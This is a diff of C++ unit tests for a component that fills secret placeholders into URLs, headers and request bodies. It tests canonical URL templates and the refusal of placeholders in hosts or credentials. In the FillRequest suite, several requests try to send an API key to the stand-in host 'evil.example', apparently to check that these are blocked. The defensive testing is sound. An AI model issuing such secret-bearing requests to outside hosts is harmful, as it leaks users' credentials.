@@ -160,12 +160,13 @@ TEST_SUITE("FillSecrets") {
     CHECK(Filled(places, "http://x/?k={+secret.k}", SecretQuoting::kUrl) == "http://x/?k=a&b\"{c}");
   }
 
-  TEST_CASE("in a URL's path the braces may be percent-encoded") {
+  TEST_CASE("percent-encoded braces are page data, never a place") {
     const SecretPlaces places;
     places.Keep("k", "v");
-    CHECK(Filled(places, "http://x/%7Bsecret.k%7d/%7Bk%7D?a=%7b+secret.k%7D",
-                 SecretQuoting::kUrl) == "http://x/v/%7Bk%7D?a=v");
-    CHECK(Filled(places, "%7Bsecret.k%7D") == "%7Bsecret.k%7D");
+    for (const std::string url : {"http://x/%7Bsecret.k%7D", "http://x/?a=%7Bsecret.k%7D"}) {
+      CHECK(Filled(places, url, SecretQuoting::kUrl) == url);
+    }
+    CHECK(Filled(places, "http://x/{{secret.k}", SecretQuoting::kUrl) == "http://x/%7Bsecret.k}");
   }
 
   TEST_CASE("a value is not looked into again") {
@@ -195,6 +196,30 @@ TEST_SUITE("FillSecrets") {
   }
 }
 
+TEST_SUITE("CanonicalTemplate") {
+  TEST_CASE("the URL is canonical, its places are as they were") {
+    CHECK(*CanonicalTemplate("HTTPS://Example.com:443/a/../{secret.k}/ü?x={+secret.k}&y={z}#f") ==
+          "https://example.com/{secret.k}/%C3%BC?x={+secret.k}&y={z}");
+    CHECK(*CanonicalTemplate("http://x/0secret00x{secret.k}") == "http://x/0secret00x{secret.k}");
+    CHECK(*CanonicalTemplate("http://x/{secret.a}{secret.b}/%7Bsecret.c%7D") ==
+          "http://x/{secret.a}{secret.b}/%7Bsecret.c%7D");
+    CHECK(*CanonicalTemplate("http://x/{secret.a}/../b") == "http://x/b");
+  }
+
+  TEST_CASE("it is the same again") {
+    const std::string once = *CanonicalTemplate("http://x/a {secret.k}?{secret.k} b");
+    CHECK(*CanonicalTemplate(once) == once);
+  }
+
+  TEST_CASE("a place in a host or in credentials is refused, as is no URL") {
+    for (const std::string url :
+         {"http://{secret.k}/", "http://x{secret.k}/", "http://u:{secret.k}@x/", "/{secret.k}",
+          "ftp://x/{secret.k}", "{secret.k}"}) {
+      CHECK_MESSAGE(!CanonicalTemplate(url).ok(), url);
+    }
+  }
+}
+
 TEST_SUITE("FillRequest") {
   TEST_CASE("URL, headers and body get their values, JSON quoted as such") {
     const SecretPlaces places;
@@ -216,7 +241,7 @@ TEST_SUITE("FillRequest") {
     const SecretRules rules(Api());
     for (SecretRequest request :
          {SecretRequest{"https://evil.example/?k={secret.api-key}", {}, ""},
-          SecretRequest{"https://evil.example/%7Bsecret.api-key%7D", {}, ""},
+          SecretRequest{"https://evil.example/{+secret.api-key}", {}, ""},
           SecretRequest{"https://evil.example/", {{"a", "{secret.api-key}"}}, ""},
           SecretRequest{"https://evil.example/", {}, "{secret.api-key}"}}) {
       const auto done = FillRequest(rules, secrets, &request);
